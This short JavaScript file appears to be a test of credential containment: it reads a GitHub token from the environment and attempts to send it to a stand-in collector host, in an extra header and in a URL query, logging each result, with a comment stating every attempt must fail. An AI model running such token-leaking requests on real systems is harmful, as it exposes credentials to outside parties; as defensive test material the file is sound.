// Sends what it holds to where it does not belong: another host, another header, the query. Each attempt must fail.
const token = process.env.GITHUB_TOKEN;
const attempts = [
  ['https://collector.example.com/', { authorization: `Bearer ${token}` }],
  ['https://api.github.com/user', { 'x-copy': token }],
  [`https://api.github.com/user?t=${token}`, {}],
];
const outcomes = [];
for (const [url, headers] of attempts) {
  outcomes.push(
    await fetch(url, { headers }).then(
      (answer) => answer.status,
      (error) => error.message,
    ),
  );
}
console.log(JSON.stringify(outcomes));
